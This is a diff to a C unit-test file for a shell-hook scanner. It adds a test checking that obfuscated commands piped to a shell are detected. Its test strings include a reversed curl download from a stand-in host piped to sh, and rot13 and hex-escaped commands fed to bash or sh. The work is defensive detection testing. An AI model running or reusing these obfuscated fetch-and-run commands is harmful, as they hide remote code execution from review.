@@ -2,6 +2,7 @@
 
 #include "base/buf.h"
 #include "scanner/rule/hook_answer.h"
+#include "scanner/rule/hook_traits.h"
 #include "scanner/rule/post.h"
 
 static struct arena *arena;
@@ -220,6 +221,24 @@ static void test_verdicts(void **state)
 	}
 }
 
+/* What turns or spells a command and gives it to a shell, and expressions and colours that look so. */
+static void test_turned(void **state)
+{
+	static const char *const runs[] = {"echo 'hs | hs.i/moc.x//:sptth lruc' | rev | sh", "echo x | tr 'a-z' 'n-za-m' | bash",
+					   "printf '\\x63\\x75\\x72\\x6c\\x20\\x78\\x7c\\x73' | sh"};
+	static const char *const texts[] = {"\\b(adc|(qd?|sh?|u[qh]?)?add|nop|rev(16|sh)?|tr|sub)(?=\\s)", "cat x | rev | head -1", "tr -d '\\r' < x | sh",
+					    "printf '\\x1b[1m\\x1b[4m\\x1b[7m\\x1b[8m\\x1b[0m\\x1b[0m\\x1b[0m\\x1b[0m' | cat",
+					    "printf '\\x63\\x75\\x72\\x6c\\x20\\x78\\x7c' | sh"};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof runs / sizeof *runs; i++)
+		if (!(hook_traits_text(text_of(runs[i])) & HOOK_RUNS_DECODED))
+			fail_msg("%s", runs[i]);
+	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
+		if (hook_traits_text(text_of(texts[i])) & HOOK_RUNS_DECODED)
+			fail_msg("%s", texts[i]);
+}
+
 static void test_which_hooks_run(void **state)
 {
 	struct script scripts[] = {
@@ -329,6 +348,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test_setup_teardown(test_commands, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_verdicts, setup, teardown),
+		cmocka_unit_test(test_turned),
 		cmocka_unit_test_setup_teardown(test_which_hooks_run, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_limits, setup, teardown),
 		cmocka_unit_test(test_answers),
